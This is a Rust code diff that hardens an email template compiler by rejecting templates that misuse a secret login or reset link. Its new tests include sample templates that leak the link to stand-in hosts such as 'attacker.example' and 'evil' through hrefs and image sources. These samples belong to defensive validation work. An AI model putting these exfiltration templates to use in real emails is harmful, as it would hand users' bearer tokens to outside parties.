@@ -279,6 +279,7 @@ impl CompiledTemplates {
             }
         });
         for (part, source) in PARTS.into_iter().zip([&set.subject, &set.html, &set.text]) {
+            check_link_uses(part, source)?;
             env.add_template_owned(part, source.clone())
                 .map_err(|e| template_error(part, source, &e, &Environment::new()))?;
             let template = env
@@ -405,7 +406,11 @@ impl CompiledTemplates {
                 "subject template: it puts the link in the subject; the link belongs in the message (a link's href, or the text)",
             ));
         }
-        if let Some(place) = placement::misplaced_link(&html, &escape_attribute(&secret)) {
+        if let Some(place) = placement::misplaced_link(
+            &html,
+            &escape_attribute(&link.url),
+            &escape_attribute(&secret),
+        ) {
             return Err(AppError::invalid_input(format!(
                 "html template: it puts the link in {}, where a mail client fetches or hides it; a link may appear only as a link's target (<a href=\"{{{{ link }}}}\">) or in the text",
                 place.describe()
@@ -418,6 +423,45 @@ impl CompiledTemplates {
             text: self.render_part("text", person, link, settings)?,
         })
     }
+}
+
+/// The link is used only as `{{ link }}`: a filter, a slice, a join or a `set` makes something from
+/// it that the placement check (which looks for the link) would not recognise.
+fn check_link_uses(part: &str, source: &str) -> Result<(), AppError> {
+    let mut from = 0;
+    while let Some(open) = source[from..].find(['{']).map(|at| from + at) {
+        let kind = source[open + 1..].chars().next();
+        let close = match kind {
+            Some('{') => "}}",
+            Some('%') => "%}",
+            _ => {
+                from = open + 1;
+                continue;
+            }
+        };
+        let inner_start = open + 2;
+        let inner_end = source[inner_start..]
+            .find(close)
+            .map_or(source.len(), |at| inner_start + at);
+        let inner = &source[inner_start..inner_end];
+        let mentions_link = inner.match_indices("link").any(|(at, _)| {
+            let before = inner[..at].chars().next_back();
+            let after = inner[at + 4..].chars().next();
+            let word = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_');
+            !word(before) && before != Some('.') && !word(after)
+        });
+        if mentions_link {
+            let bare = inner.trim_matches(|c: char| c == '-' || c == '+' || c.is_whitespace());
+            if kind != Some('{') || bare != "link" {
+                let (line, column) = position(source, open);
+                return Err(AppError::invalid_input(format!(
+                    "{part} template, line {line}, column {column}: use the link only as {{{{ link }}}} (no filter, slice, join or set): anything made from the link escapes the check that keeps it where it belongs"
+                )));
+            }
+        }
+        from = inner_end;
+    }
+    Ok(())
 }
 
 /// The part of a link that makes it a bearer secret: its `ticket` (password-change and
@@ -475,6 +519,9 @@ mod tests {
             r#"<a href="{{ link }}" title="{{ link }}">go</a>"#,
             r#"<!-- {{ link }} --><a href="{{ link }}">go</a>"#,
             r#"<a href="{{ link }}">go</a>{% if person.given_name == "Jane" %}<img src="//x/{{ link[8:] }}">{% endif %}"#,
+            r#"<a href="https://attacker.example/?t={{ link }}">go</a>"#,
+            r#"<img src="{{ 'https://evil/' ~ link|reverse }}"><a href="{{ link }}">go</a>"#,
+            r#"{% set l = link %}<a href="{{ l }}">go</a>"#,
         ] {
             let set = TemplateSet {
                 html: html.into(),
@@ -482,7 +529,8 @@ mod tests {
             };
             let error = CompiledTemplates::compile(&set).unwrap_err();
             assert!(
-                error.message.contains("html template: it puts the link in"),
+                error.message.contains("html template: it puts the link in")
+                    || error.message.contains("use the link only as {{ link }}"),
                 "{html}: {}",
                 error.message
             );
